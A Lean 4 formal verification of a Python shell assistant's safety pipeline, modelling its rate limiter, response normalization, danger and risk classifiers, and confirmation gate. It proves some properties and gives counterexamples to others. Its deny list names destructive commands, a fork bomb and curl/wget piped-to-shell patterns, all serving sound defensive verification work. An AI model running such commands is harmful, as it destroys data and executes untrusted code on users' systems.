import Mathlib

/-!
Verification of the safety-gated execution pipeline of `assistant.py`
(shell-assistant repository).

The Python source is shallowly embedded: strings are `List Char`, timestamps
are rationals measured in seconds, the external Gemini backend and the
subprocess collaborator are oracle inputs.  Python-specific behaviour
(`str.strip`, `str.lower`, `int()` truncation, truthiness, `re.search` on the
fixed pattern lists) is modelled by the `py*` helpers below.  Unicode-specific
behaviour of `str.lower`/`str.strip` outside ASCII is not modelled; every
pattern and every command of interest here is ASCII.
-/

/-- Python `str.isspace` on ASCII characters: the whitespace class stripped by
`str.strip()` and matched by the regex class `\s`. -/
def pyIsSpace (c : Char) : Bool :=
  c = ' ' || c = '\t' || c = '\n' || c = '\x0b' || c = '\x0c' || c = '\r'

/-- Python `str.strip()`: remove whitespace from both ends. -/
def pyStrip (l : List Char) : List Char :=
  List.rdropWhile pyIsSpace (List.dropWhile pyIsSpace l)

/-- Python `str.lower()` (ASCII). -/
def pyLower (l : List Char) : List Char :=
  l.map Char.toLower

/-- Python `int()` applied to a real number: truncation toward zero. -/
def pyInt (q : ℚ) : ℤ :=
  if 0 ≤ q then ⌊q⌋ else ⌈q⌉

/-- Python `needle in hay` on strings: substring containment. -/
def isSubstring (needle : List Char) : List Char → Bool
  | [] => List.isPrefixOf needle []
  | c :: rest => List.isPrefixOf needle (c :: rest) || isSubstring needle rest

/-! ## RateLimiter (assistant.py lines 28-56) -/

/-- The constructor arguments of `RateLimiter.__init__`. -/
structure RLConfig where
  max_calls : ℕ
  window_minutes : ℕ
deriving DecidableEq

/-- The length of the sliding window in seconds (`timedelta(minutes=w)`). -/
def windowLen (cfg : RLConfig) : ℚ :=
  60 * cfg.window_minutes

/-- `self.calls = [t for t in self.calls if t > now - timedelta(minutes=w)]`. -/
def pruneCalls (cfg : RLConfig) (now : ℚ) (calls : List ℚ) : List ℚ :=
  calls.filter (fun t => decide (now - windowLen cfg < t))

/-- `RateLimiter.can_make_call`: prunes stale records (the pruned list is the
new `self.calls`), then compares the count with `max_calls`. -/
def canMakeCall (cfg : RLConfig) (calls : List ℚ) (now : ℚ) : List ℚ × Bool :=
  (pruneCalls cfg now calls,
   decide ((pruneCalls cfg now calls).length < cfg.max_calls))

/-- `RateLimiter.record_call`: `self.calls.append(datetime.now())`. -/
def recordCall (calls : List ℚ) (now : ℚ) : List ℚ :=
  calls ++ [now]

/-- `RateLimiter.time_until_next_call`.  `can_make_call` runs first (pruning
`self.calls`); `min(self.calls)` is then taken on the pruned list, and the
remaining time is passed through `int(...)`.  `none` models the `ValueError`
Python raises for `min([])`. -/
def time_until_next_call (cfg : RLConfig) (calls : List ℚ) (now : ℚ) :
    Option ℤ :=
  if (canMakeCall cfg calls now).2 then some 0
  else
    match (canMakeCall cfg calls now).1.min? with
    | some oldest => some (pyInt (oldest + windowLen cfg - now))
    | none => none

/-- One interaction with the rate limiter: a bare `can_make_call` query, or an
admitted call (`can_make_call` returning true immediately followed by
`record_call`), each at a given time. -/
inductive RLEvent where
  | check (t : ℚ)
  | call (t : ℚ)
deriving DecidableEq

/-- The time at which an event happens. -/
def RLEvent.time : RLEvent → ℚ
  | .check t => t
  | .call t => t

/-- The timestamps of the recorded (admitted) calls of a trace. -/
def callTimes : List RLEvent → List ℚ
  | [] => []
  | .check _ :: es => callTimes es
  | .call t :: es => t :: callTimes es

/-- Event times are nondecreasing and bounded below by `t0` (real time moves
forward in the single-threaded caller). -/
def timesLB : ℚ → List RLEvent → Bool
  | _, [] => true
  | t0, e :: es => decide (t0 ≤ e.time) && timesLB e.time es

/-- Runs a trace against the limiter state: every event performs
`can_make_call` (pruning the state); a `call` event additionally requires the
admission to have succeeded and then performs `record_call`.  Returns `true`
iff every `call` of the trace was admitted. -/
def gatedRun (cfg : RLConfig) : List ℚ → List RLEvent → Bool
  | _, [] => true
  | calls, .check t :: es => gatedRun cfg (canMakeCall cfg calls t).1 es
  | calls, .call t :: es =>
      (canMakeCall cfg calls t).2 &&
        gatedRun cfg (recordCall (canMakeCall cfg calls t).1 t) es

/-- Membership of a timestamp in the sliding interval `(a, a + w]`. -/
def inWin (w a x : ℚ) : Bool :=
  decide (a < x) && decide (x ≤ a + w)

/-! ## Response normalization (assistant.py lines 374-390) -/

/-- `prefixes_to_remove` of `_generate_command`. -/
def prefixes_to_remove : List (List Char) :=
  ["```bash".toList, "```sh".toList, "```".toList, "$".toList, "> ".toList,
   "Command:".toList, "command:".toList]

/-- The closing code fence checked by `command.endswith('```')`. -/
def fenceMarks : List Char := "```".toList

/-- The prefix-stripping loop: each marker is tested once, in order, against
the current command; on a hit the marker is removed and the rest stripped. -/
def stripLeadMarkers : List (List Char) → List Char → List Char
  | [], cmd => cmd
  | p :: ps, cmd =>
      if List.isPrefixOf p cmd then stripLeadMarkers ps (pyStrip (cmd.drop p.length))
      else stripLeadMarkers ps cmd

/-- `if command.endswith('```'): command = command[:-3].strip()`. -/
def dropFence (c : List Char) : List Char :=
  if List.isSuffixOf fenceMarks c then pyStrip (c.take (c.length - 3)) else c

/-- The full normalization applied to `response.text` by `_generate_command`:
initial `strip()`, the prefix loop, then the trailing-fence removal. -/
def normalize_response (l : List Char) : List Char :=
  dropFence (stripLeadMarkers prefixes_to_remove (pyStrip l))

/-- The value `_generate_command` produces from a backend response text that
arrived without an exception: `None` when `response.text` is falsy (empty),
otherwise the normalized text (lines 374-390). -/
def generate_from_response (respText : List Char) : Option (List Char) :=
  if respText.isEmpty then none
  else some (normalize_response respText)

/-- The orchestrator's acceptance of a generated command
(`handle_gpt_command` lines 461-464): `if not command: ... return` — a falsy
(`None` or empty) command is rejected as a generation failure. -/
def accepted_command (respText : List Char) : Option (List Char) :=
  match generate_from_response respText with
  | none => none
  | some c => if c.isEmpty then none else some c

/-! ## Risk classification (assistant.py lines 77-95 and 315-328) -/

/-- `self.dangerous_commands` (lines 77-85), verbatim. -/
def dangerous_commands : List (List Char) :=
  ["rm -rf", "del /f", "format", "fdisk", "mkfs", "dd if=", "shutdown",
   "reboot", "halt", "poweroff", "init 0", "init 6", "systemctl poweroff",
   "systemctl reboot", "chmod 777", "chown root", "sudo rm", "sudo dd",
   "curl.*|.*sh", "wget.*|.*sh", ":()\x7b :|:& \x7d;:", "sudo chmod -R 777",
   "sudo chown -R", "rm -r /", "del C:\\", "rmdir /s", "takeown /f",
   "icacls.*grant.*full", "net user.*add", "useradd", "userdel",
   "passwd", "su -", "sudo su", "pkill -9", "killall -9"].map String.toList

/-- `_is_dangerous_command` (lines 315-321): lowercases the command and tests
each entry of `dangerous_commands` with Python's substring operator `in` —
every entry, including the ones written in regex syntax, is used as a literal
substring. -/
def is_dangerous_command (command : List Char) : Bool :=
  dangerous_commands.any (fun d => isSubstring d (pyLower command))

/-- A token of the small regex language actually used by the fixed pattern
lists: a literal character, `\s+`, or `.*`. -/
inductive RTok where
  | lit (c : Char)
  | wsPlus
  | anyStar
deriving DecidableEq

/-- Fueled matcher of a token list against some prefix of the input (`.*`
and `\s+` with their `re` semantics; only existence of a match matters).
Every recursive call strictly decreases `ps.length + s.length`, so with the
fuel `matchHere` supplies the `0` branch is never taken; the fuel only makes
the recursion structural. -/
def matchHereF : ℕ → List RTok → List Char → Bool
  | 0, _, _ => false
  | _ + 1, [], _ => true
  | _ + 1, .lit _ :: _, [] => false
  | fuel + 1, .lit c :: ps, x :: xs => x == c && matchHereF fuel ps xs
  | _ + 1, .wsPlus :: _, [] => false
  | fuel + 1, .wsPlus :: ps, x :: xs =>
      pyIsSpace x &&
        (matchHereF fuel ps xs || matchHereF fuel (.wsPlus :: ps) xs)
  | fuel + 1, .anyStar :: ps, [] => matchHereF fuel ps []
  | fuel + 1, .anyStar :: ps, x :: xs =>
      matchHereF fuel ps (x :: xs) || matchHereF fuel (.anyStar :: ps) xs

/-- Matches a token list against some prefix of the input. -/
def matchHere (ps : List RTok) (s : List Char) : Bool :=
  matchHereF (ps.length + s.length + 1) ps s

/-- Python `re.search`: the pattern may match starting at any position. -/
def regexSearch (p : List RTok) (s : List Char) : Bool :=
  matchHere p s ||
    match s with
    | [] => false
    | _ :: xs => regexSearch p xs

/-- Translates one alternation-free branch of the raw pattern strings used in
`assistant.py` into tokens: `\s+` is the whitespace class, `\\` a literal
backslash, `.*` the wildcard, everything else a literal character. -/
def parseRegex : List Char → List RTok
  | '\\' :: 's' :: '+' :: rest => .wsPlus :: parseRegex rest
  | '\\' :: '\\' :: rest => .lit '\\' :: parseRegex rest
  | '.' :: '*' :: rest => .anyStar :: parseRegex rest
  | c :: rest => .lit c :: parseRegex rest
  | [] => []

/-- Splits a raw pattern on top-level `|` (regex alternation). -/
def splitAlts : List Char → List (List Char)
  | [] => [[]]
  | '|' :: rest => [] :: splitAlts rest
  | c :: rest =>
      match splitAlts rest with
      | [] => [[c]]
      | b :: bs => (c :: b) :: bs

/-- `self.risky_commands` (lines 88-95), verbatim raw regex strings. -/
def risky_commands : List (List Char) :=
  ["sudo\\s+", "rm\\s+", "del\\s+", "move\\s+", "mv\\s+",
   "cp\\s+.*\\s+/", "copy\\s+.*\\s+\\\\", "chmod\\s+", "chown\\s+",
   "git\\s+reset\\s+--hard", "git\\s+clean\\s+-fd", "npm\\s+install\\s+-g",
   "pip\\s+install\\s+", "apt\\s+install", "yum\\s+install",
   "systemctl\\s+", "service\\s+", "crontab\\s+", "mount\\s+",
   "umount\\s+", "fdisk\\s+", "parted\\s+"].map String.toList

/-- `_is_risky_command` (lines 323-328): `re.search(pattern, command,
re.IGNORECASE)` over the risky pattern set (case-insensitivity rendered by
lowercasing the command; the patterns are already lower-case). -/
def is_risky_command (command : List Char) : Bool :=
  risky_commands.any (fun p => regexSearch (parseRegex p) (pyLower command))

/-- A dangerous entry "containing wildcards" in the sense of the spec: it
contains the regex wildcard `.*`. -/
def hasWildcard (p : List Char) : Bool :=
  isSubstring ".*".toList p

/-- The dangerous classifier as the spec words it (§4.2): literal entries
match as case-insensitive substrings, entries containing wildcards match as
case-insensitive regexes, both drawn from the one `dangerous_commands` list.
Stated for comparison with `is_dangerous_command`, which is translated from
the source. -/
def spec_is_dangerous (command : List Char) : Bool :=
  dangerous_commands.any (fun d =>
    if hasWildcard d then
      (splitAlts (pyLower d)).any (fun b => regexSearch (parseRegex b) (pyLower command))
    else isSubstring (pyLower d) (pyLower command))

/-! ## Executor (assistant.py lines 396-416) -/

/-- The fixed timeout passed to `subprocess.run` (seconds). -/
def EXEC_TIMEOUT : ℚ := 30

/-- The behaviour of the spawned process (the process/shell collaborator):
either it runs for `duration` seconds and completes with an exit code and
output streams, or spawning itself fails with an OS-level error. -/
inductive ProcOutcome where
  | runs (duration : ℚ) (exitCode : ℤ) (out err : List Char)
  | spawnError (msg : List Char)

/-- The `(success, stdout, stderr)` triple returned by `_execute_command`. -/
structure ExecutionResult where
  success : Bool
  stdout : List Char
  stderr : List Char
deriving DecidableEq

/-- `_execute_command` (lines 396-416): one `subprocess.run` invocation with
`timeout=30`; `TimeoutExpired` yields the fixed timeout triple, any other
exception yields `(False, "", str(e))`, and a completed run reports
`returncode == 0`.  There is no retry loop in the function: it consumes
exactly one process outcome. -/
def execute_command (p : ProcOutcome) : ExecutionResult :=
  match p with
  | .runs d rc out err =>
      if EXEC_TIMEOUT < d then
        { success := false, stdout := [],
          stderr := "Command timed out after 30 seconds".toList }
      else
        { success := rc == 0, stdout := out, stderr := err }
  | .spawnError m => { success := false, stdout := [], stderr := m }

/-- The value of Python's `shell=` argument in `_execute_command`:
`self.config.get('preferred_shell', True)` is the configured shell string
when one is set, else the boolean `True`. -/
inductive PyShellArg where
  | pybool (b : Bool)
  | pystr (s : List Char)
deriving DecidableEq

/-- `config.get('preferred_shell', True)` (line 399). -/
def shell_arg (preferred : Option (List Char)) : PyShellArg :=
  match preferred with
  | some s => .pystr s
  | none => .pybool true

/-- Python truthiness of the `shell=` argument. -/
def pyTruthy : PyShellArg → Bool
  | .pybool b => b
  | .pystr s => !s.isEmpty

/-- CPython `subprocess.run` on POSIX: `shell=` is interpreted only for its
truth value — when truthy the child is `['/bin/sh', '-c', command]`; the
argument never selects a different interpreter (that would require
`executable=`).  Returns the interpreter the command runs under, `none`
meaning the command string is treated as a program name directly. -/
def spawned_interpreter (arg : PyShellArg) : Option (List Char) :=
  if pyTruthy arg then some "/bin/sh".toList else none

/-! ## Generation and fix attempts with rate-limiter and usage state
(assistant.py lines 356-394, 418-451) -/

/-- The mutable state the generation path touches: the rate limiter's call
records and the usage counter incremented by `_record_api_call`. -/
structure AppState where
  rlCalls : List ℚ
  usageTotal : ℕ
deriving DecidableEq

/-- `_generate_command` (lines 356-394), with the Gemini model assumed set
up.  `backend = none` models `generate_content` raising (network/auth error):
the `except` clause returns `None`.  On admission the call is recorded
*before* the backend is invoked; `_record_api_call` runs only after the
backend returns. -/
def generate_command (cfg : RLConfig) (st : AppState) (now : ℚ)
    (backend : Option (List Char)) : AppState × Option (List Char) :=
  if (canMakeCall cfg st.rlCalls now).2 = false then
    ({ st with rlCalls := (canMakeCall cfg st.rlCalls now).1 }, none)
  else
    match backend with
    | none =>
        ({ rlCalls := recordCall (canMakeCall cfg st.rlCalls now).1 now,
           usageTotal := st.usageTotal }, none)
    | some t =>
        if t.isEmpty then
          ({ rlCalls := recordCall (canMakeCall cfg st.rlCalls now).1 now,
             usageTotal := st.usageTotal + 1 }, none)
        else
          ({ rlCalls := recordCall (canMakeCall cfg st.rlCalls now).1 now,
             usageTotal := st.usageTotal + 1 }, some (normalize_response t))

/-- `_attempt_fix_command` (lines 418-451).  `modelReady` is the
`self.gemini_model` guard; `backend = none` models `generate_content`
raising (swallowed by `except: pass`).  Note the function returns the
*stripped* backend text whenever it is nonempty — it performs no comparison
with the original command. -/
def attempt_fix_command (cfg : RLConfig) (st : AppState) (now : ℚ)
    (modelReady : Bool) (backend : Option (List Char)) :
    AppState × Option (List Char) :=
  if modelReady = false then (st, none)
  else if (canMakeCall cfg st.rlCalls now).2 = false then
    ({ st with rlCalls := (canMakeCall cfg st.rlCalls now).1 }, none)
  else
    match backend with
    | none =>
        ({ rlCalls := recordCall (canMakeCall cfg st.rlCalls now).1 now,
           usageTotal := st.usageTotal }, none)
    | some t =>
        if t.isEmpty then
          ({ rlCalls := recordCall (canMakeCall cfg st.rlCalls now).1 now,
             usageTotal := st.usageTotal + 1 }, none)
        else
          ({ rlCalls := recordCall (canMakeCall cfg st.rlCalls now).1 now,
             usageTotal := st.usageTotal + 1 }, some (pyStrip t))

/-- The orchestrator's use of a fix proposal (`handle_gpt_command` line 508):
`if fixed_command and fixed_command != command:` — a proposal that is falsy
(absent or empty) or textually identical to the original is discarded. -/
def offered_fix (original : List Char) (fixed : Option (List Char)) :
    Option (List Char) :=
  match fixed with
  | none => none
  | some f => if f.isEmpty || decide (f = original) then none else some f

/-! ## Confirmation gate (assistant.py lines 469-491) -/

/-- The two policy booleans the gate consults, with their `config.get`
defaults resolved by the caller (`confirm_risky` defaults to true,
`auto_run` to false). -/
structure Policy where
  auto_run : Bool
  confirm_risky : Bool
deriving DecidableEq

/-- Whether the generated command reaches `_execute_command`. -/
inductive GateOutcome where
  | executed
  | cancelled
deriving DecidableEq

/-- The safety gate of `handle_gpt_command` (lines 469-491): a dangerous
command demands the typed word `yes` (compared after `.lower()`, without
stripping) regardless of policy; otherwise a risky command under
`confirm_risky`, or any command when `auto_run` is off, demands a `y` answer
(compared after `.strip().lower()`); otherwise execution proceeds
unprompted.  `answer` is the user's confirmation input. -/
def confirmation_gate (pol : Policy) (command answer : List Char) :
    GateOutcome :=
  if is_dangerous_command command then
    if pyLower answer = "yes".toList then .executed else .cancelled
  else if is_risky_command command && pol.confirm_risky then
    if pyLower (pyStrip answer) = "y".toList then .executed else .cancelled
  else if pol.auto_run = false then
    if pyLower (pyStrip answer) = "y".toList then .executed else .cancelled
  else .executed

/-! ## Helper lemmas -/

theorem canMakeCall_fst (cfg : RLConfig) (calls : List ℚ) (now : ℚ) :
    (canMakeCall cfg calls now).1 = pruneCalls cfg now calls := rfl

theorem canMakeCall_snd (cfg : RLConfig) (calls : List ℚ) (now : ℚ) :
    (canMakeCall cfg calls now).2
      = decide ((pruneCalls cfg now calls).length < cfg.max_calls) := rfl

/-- Pruning at a later instant subsumes an earlier pruning. -/
theorem pruneCalls_pruneCalls (cfg : RLConfig) {t0 t : ℚ} (h : t0 ≤ t)
    (r : List ℚ) :
    pruneCalls cfg t (pruneCalls cfg t0 r) = pruneCalls cfg t r := by
  unfold pruneCalls
  rw [List.filter_filter]
  apply List.filter_congr
  intro x _
  by_cases hx : t - windowLen cfg < x
  · have hx0 : t0 - windowLen cfg < x := lt_of_le_of_lt (by linarith) hx
    simp [hx, hx0]
  · simp [hx]

/-- Key invariant for the sliding-window bound: running an all-admitted trace
from a pruned history `r` keeps every sliding interval at or below
`max_calls`, provided the history already satisfied the bound. -/
theorem rl_key (cfg : RLConfig) (hw : 0 < windowLen cfg) :
    ∀ (events : List RLEvent) (r : List ℚ) (t0 : ℚ),
      timesLB t0 events = true →
      gatedRun cfg (pruneCalls cfg t0 r) events = true →
      (∀ x ∈ r, x ≤ t0) →
      (∀ b : ℚ, r.countP (inWin (windowLen cfg) b) ≤ cfg.max_calls) →
      ∀ a : ℚ,
        (r ++ callTimes events).countP (inWin (windowLen cfg) a)
          ≤ cfg.max_calls := by
  intro events
  induction events with
  | nil =>
      intro r t0 _ _ _ hbound a
      simpa [callTimes] using hbound a
  | cons e es ih =>
      intro r t0 hlb hgate hle hbound a
      cases e with
      | check t =>
          simp only [timesLB, RLEvent.time, Bool.and_eq_true,
            decide_eq_true_eq] at hlb
          obtain ⟨ht0t, hlb'⟩ := hlb
          simp only [gatedRun, canMakeCall_fst] at hgate
          rw [pruneCalls_pruneCalls cfg ht0t r] at hgate
          have hres := ih r t hlb' hgate
            (fun x hx => le_trans (hle x hx) ht0t) hbound a
          simpa [callTimes] using hres
      | call t =>
          simp only [timesLB, RLEvent.time, Bool.and_eq_true,
            decide_eq_true_eq] at hlb
          obtain ⟨ht0t, hlb'⟩ := hlb
          simp only [gatedRun, canMakeCall_fst, canMakeCall_snd,
            Bool.and_eq_true, decide_eq_true_eq] at hgate
          obtain ⟨hlen, hgate'⟩ := hgate
          rw [pruneCalls_pruneCalls cfg ht0t r] at hlen hgate'
          have hsing : recordCall (pruneCalls cfg t r) t
              = pruneCalls cfg t (r ++ [t]) := by
            simp [recordCall, pruneCalls, List.filter_append, sub_lt_self t hw]
          have hle' : ∀ x ∈ r ++ [t], x ≤ t := by
            intro x hx
            rcases List.mem_append.mp hx with h | h
            · exact le_trans (hle x h) ht0t
            · simp only [List.mem_singleton] at h
              exact le_of_eq h
          have hbound' : ∀ b : ℚ,
              (r ++ [t]).countP (inWin (windowLen cfg) b) ≤ cfg.max_calls := by
            intro b
            rw [List.countP_append]
            by_cases hbt : inWin (windowLen cfg) b t = true
            · have h1 : r.countP (inWin (windowLen cfg) b)
                  ≤ r.countP (fun x => decide (t - windowLen cfg < x)) := by
                apply List.countP_mono_left
                intro x _ hx
                simp only [inWin, Bool.and_eq_true, decide_eq_true_eq]
                  at hx hbt
                exact decide_eq_true
                  (show t - windowLen cfg < x by linarith [hx.1, hbt.2])
              have h2 : r.countP (fun x => decide (t - windowLen cfg < x))
                  = (pruneCalls cfg t r).length := by
                rw [pruneCalls, List.countP_eq_length_filter]
              have h3 : List.countP (inWin (windowLen cfg) b) [t] = 1 := by
                simp [List.countP_cons, hbt]
              have h4 := lt_of_le_of_lt (h1.trans_eq h2) hlen
              omega
            · have h3 : List.countP (inWin (windowLen cfg) b) [t] = 0 := by
                simp [List.countP_cons, hbt]
              rw [h3]
              simpa using hbound b
          have hres := ih (r ++ [t]) t hlb'
            (by rw [← hsing]; exact hgate') hle' hbound' a
          simpa [callTimes, List.append_assoc] using hres

/-- C3: for every trace of `can_make_call`/`record_call` interactions with
nondecreasing real time, in which every `record_call` immediately follows an
admitting `can_make_call` (`gatedRun … = true`), the number of recorded call
timestamps inside any sliding interval `(a, a + window]` never exceeds
`max_calls`; `max_calls` and `window_minutes` are positive integers. -/
theorem rate_limiter_sliding_window (cfg : RLConfig)
    (hmax : 0 < cfg.max_calls) (hwin : 0 < cfg.window_minutes)
    (t0 : ℚ) (events : List RLEvent)
    (hlb : timesLB t0 events = true)
    (hgate : gatedRun cfg [] events = true) (a : ℚ) :
    (callTimes events).countP (inWin (windowLen cfg) a) ≤ cfg.max_calls := by
  have hw : 0 < windowLen cfg := by
    have h1 : (0 : ℚ) < cfg.window_minutes := by exact_mod_cast hwin
    unfold windowLen
    linarith
  have h0 : pruneCalls cfg t0 ([] : List ℚ) = [] := rfl
  have := rl_key cfg hw events [] t0 hlb (by rw [h0]; exact hgate)
    (by intro x hx; simp at hx) (by intro b; simp) a
  simpa using this

/-- Witness for C3 at a concrete trace: two admitted calls under
`max_calls = 1`, `window_minutes = 1`, 61 seconds apart. -/
theorem rate_limiter_sliding_window_witness :
    (callTimes [RLEvent.call 0, RLEvent.call 61]).countP
        (inWin (windowLen ⟨1, 1⟩) 0) ≤ (1 : ℕ) :=
  rate_limiter_sliding_window ⟨1, 1⟩ (by decide) (by decide) 0
    [RLEvent.call 0, RLEvent.call 61] (by decide)
    (by norm_num [gatedRun, canMakeCall, pruneCalls, windowLen, recordCall]) 0

/-- C4 counterexample: with `max_calls = 1`, `window_minutes = 1`, one call
recorded at time 0 and `now = 59.5 s`, the limiter is not admissible, the
spec's value `ceil(oldest + window - now) = ceil(0.5) = 1`, yet the code's
`int()` truncation returns 0 — so the returned value is neither the claimed
ceiling nor 0-iff-admissible. -/
theorem time_until_next_call_not_ceiling :
    time_until_next_call ⟨1, 1⟩ [0] (119 / 2) = some 0 ∧
    (canMakeCall ⟨1, 1⟩ [0] (119 / 2)).2 = false ∧
    ⌈(0 : ℚ) + windowLen ⟨1, 1⟩ - 119 / 2⌉ = (1 : ℤ) := by
  have h2 : (canMakeCall ⟨1, 1⟩ [0] (119 / 2)).2 = false := by
    norm_num [canMakeCall, pruneCalls, windowLen]
  have h1 : (canMakeCall ⟨1, 1⟩ [0] (119 / 2)).1 = [0] := by
    norm_num [canMakeCall, pruneCalls, windowLen]
  refine ⟨?_, h2, ?_⟩
  · unfold time_until_next_call
    rw [h2, h1]
    simp only [Bool.false_eq_true, if_false, List.min?, List.foldl_nil]
    have : pyInt ((0 : ℚ) + windowLen ⟨1, 1⟩ - 119 / 2) = 0 := by
      unfold pyInt
      rw [if_pos (by norm_num [windowLen])]
      rw [show ((0 : ℚ) + windowLen ⟨1, 1⟩ - 119 / 2) = 1 / 2 by
        norm_num [windowLen]]
      rw [Int.floor_eq_zero_iff]
      norm_num
    rw [this]
  · norm_num [windowLen, Int.ceil_eq_iff]

/-- C4 amended: `time_until_next_call` returns 0 when `can_make_call` is
true; when not admissible (with positive `max_calls`, so the pruned list is
nonempty) it returns the Python `int()` truncation of
`oldest + window - now` seconds — the *floor*, not the ceiling, of that
positive quantity — which is nonnegative, so the claimed flooring at 0 is
vacuous; a sub-second remaining wait is reported as 0 even though
`can_make_call` is false. -/
theorem time_until_next_call_truncates (cfg : RLConfig) (calls : List ℚ)
    (now : ℚ) (hmax : 0 < cfg.max_calls) :
    ((canMakeCall cfg calls now).2 = true →
      time_until_next_call cfg calls now = some 0) ∧
    ((canMakeCall cfg calls now).2 = false →
      ∃ m, (canMakeCall cfg calls now).1.min? = some m ∧
        time_until_next_call cfg calls now = some ⌊m + windowLen cfg - now⌋ ∧
        0 ≤ ⌊m + windowLen cfg - now⌋) := by
  constructor
  · intro h
    unfold time_until_next_call
    rw [h]
    simp
  · intro h
    have hne : (canMakeCall cfg calls now).1 ≠ [] := by
      intro hnil
      rw [canMakeCall_snd] at h
      rw [canMakeCall_fst] at hnil
      rw [hnil] at h
      simp only [List.length_nil, decide_eq_false_iff_not, not_lt,
        Nat.le_zero] at h
      omega
    obtain ⟨m, hm⟩ : ∃ m, (canMakeCall cfg calls now).1.min? = some m := by
      cases hmin : (canMakeCall cfg calls now).1.min? with
      | none => exact absurd (List.min?_eq_none_iff.mp hmin) hne
      | some m => exact ⟨m, rfl⟩
    have hmem : m ∈ (canMakeCall cfg calls now).1 := List.min?_mem min_choice hm
    have hgt : now - windowLen cfg < m := by
      rw [canMakeCall_fst] at hmem
      unfold pruneCalls at hmem
      exact of_decide_eq_true (List.mem_filter.mp hmem).2
    have hpos : (0 : ℚ) < m + windowLen cfg - now := by linarith
    refine ⟨m, hm, ?_, ?_⟩
    · unfold time_until_next_call
      rw [h, hm]
      simp only [Bool.false_eq_true, if_false]
      unfold pyInt
      rw [if_pos (le_of_lt hpos)]
    · rw [Int.floor_nonneg]
      exact le_of_lt hpos

/-- Witness for the amended C4 theorem at `max_calls = 1`,
`window_minutes = 1`, one record at time 0, `now = 30 s`. -/
theorem time_until_next_call_truncates_witness :
    (((canMakeCall ⟨1, 1⟩ [0] 30).2 = true →
        time_until_next_call ⟨1, 1⟩ [0] 30 = some 0) ∧
     ((canMakeCall ⟨1, 1⟩ [0] 30).2 = false →
        ∃ m, ((canMakeCall ⟨1, 1⟩ [0] 30).1).min? = some m ∧
          time_until_next_call ⟨1, 1⟩ [0] 30
              = some ⌊m + windowLen ⟨1, 1⟩ - 30⌋ ∧
          0 ≤ ⌊m + windowLen ⟨1, 1⟩ - 30⌋)) :=
  time_until_next_call_truncates ⟨1, 1⟩ [0] 30 (by decide)

/-- A list whose head fails the predicate is untouched by `dropWhile`. -/
theorem dropWhile_eq_self_of_headFalse {p : Char → Bool} {l : List Char}
    (h : ∀ b, l.head? = some b → p b = false) :
    List.dropWhile p l = l := by
  cases l with
  | nil => rfl
  | cons a t =>
      have ha := h a rfl
      simp [List.dropWhile_cons, ha]

/-- The head of a `dropWhile` result fails the predicate. -/
theorem head_dropWhile_false (p : Char → Bool) (l : List Char) :
    ∀ b, (List.dropWhile p l).head? = some b → p b = false := by
  induction l with
  | nil => intro b h; simp at h
  | cons a t ih =>
      intro b h
      by_cases hpa : p a = true
      · rw [List.dropWhile_cons, if_pos hpa] at h
        exact ih b h
      · rw [List.dropWhile_cons, if_neg hpa] at h
        simp only [List.head?_cons, Option.some.injEq] at h
        rw [← h]
        exact Bool.not_eq_true _ ▸ hpa

/-- A prefix shares the head of the larger list. -/
theorem head_of_isPrefix {l₁ l₂ : List Char} (h : l₁ <+: l₂) {b : Char}
    (hb : l₁.head? = some b) : l₂.head? = some b := by
  obtain ⟨t, rfl⟩ := h
  cases l₁ with
  | nil => simp at hb
  | cons a s =>
      simp only [List.head?_cons, Option.some.injEq] at hb
      simp [hb]

/-- Python's `strip()` is idempotent. -/
theorem pyStrip_idem (l : List Char) : pyStrip (pyStrip l) = pyStrip l := by
  have hdw : List.dropWhile pyIsSpace (pyStrip l) = pyStrip l := by
    apply dropWhile_eq_self_of_headFalse
    intro b hb
    have hpre : pyStrip l <+: List.dropWhile pyIsSpace l :=
      List.rdropWhile_prefix pyIsSpace (List.dropWhile pyIsSpace l)
    exact head_dropWhile_false pyIsSpace l b (head_of_isPrefix hpre hb)
  show List.rdropWhile pyIsSpace (List.dropWhile pyIsSpace (pyStrip l))
      = pyStrip l
  rw [hdw]
  show List.rdropWhile pyIsSpace
      (List.rdropWhile pyIsSpace (List.dropWhile pyIsSpace l)) = pyStrip l
  rw [List.rdropWhile_idempotent]
  rfl

/-- The marker loop sends stripped strings to stripped strings. -/
theorem stripLeadMarkers_stripped (ps : List (List Char)) (c : List Char)
    (hc : pyStrip c = c) :
    pyStrip (stripLeadMarkers ps c) = stripLeadMarkers ps c := by
  induction ps generalizing c with
  | nil => simpa [stripLeadMarkers] using hc
  | cons p ps ih =>
      simp only [stripLeadMarkers]
      by_cases h : List.isPrefixOf p c = true
      · simp only [h, if_true]
        exact ih _ (pyStrip_idem _)
      · simp only [h, if_false]
        exact ih _ hc

/-- The marker loop is the identity when no marker is a prefix. -/
theorem stripLeadMarkers_noop (ps : List (List Char)) (c : List Char)
    (h : ∀ p ∈ ps, List.isPrefixOf p c = false) :
    stripLeadMarkers ps c = c := by
  induction ps with
  | nil => rfl
  | cons p ps ih =>
      have hp := h p (by simp)
      simp only [stripLeadMarkers, hp, if_false]
      exact ih fun q hq => h q (by simp [hq])

/-- Every normalization result carries no leading or trailing whitespace. -/
theorem normalize_response_stripped (l : List Char) :
    pyStrip (normalize_response l) = normalize_response l := by
  unfold normalize_response dropFence
  by_cases h : List.isSuffixOf fenceMarks
      (stripLeadMarkers prefixes_to_remove (pyStrip l)) = true
  · simp only [h, if_true]
    exact pyStrip_idem _
  · simp only [h, if_false]
    exact stripLeadMarkers_stripped _ _ (pyStrip_idem l)

/-- C5 counterexample: normalization is not idempotent — `"$$ ls"`
normalizes to `"$ ls"` (the `$` marker is stripped only once), which a
second pass normalizes further to `"ls"`. -/
theorem normalize_not_idempotent :
    normalize_response (normalize_response "$$ ls".toList)
      ≠ normalize_response "$$ ls".toList := by decide

/-- C5 amended: normalization is idempotent on exactly the inputs whose
normal form retains no leading marker and no trailing fence — each marker is
stripped at most once per pass, so a doubled marker (or a doubled trailing
fence) defeats idempotence, as `normalize_not_idempotent` shows. -/
theorem normalize_idempotent_when_markers_absent (s : List Char)
    (hpre : ∀ p ∈ prefixes_to_remove,
      List.isPrefixOf p (normalize_response s) = false)
    (hsuf : List.isSuffixOf fenceMarks (normalize_response s) = false) :
    normalize_response (normalize_response s) = normalize_response s := by
  show dropFence (stripLeadMarkers prefixes_to_remove
      (pyStrip (normalize_response s))) = normalize_response s
  rw [normalize_response_stripped s]
  rw [stripLeadMarkers_noop _ _ hpre]
  unfold dropFence
  simp only [hsuf, Bool.false_eq_true, if_false]

/-- Witness for the amended C5 theorem at the already-normal input `"ls"`. -/
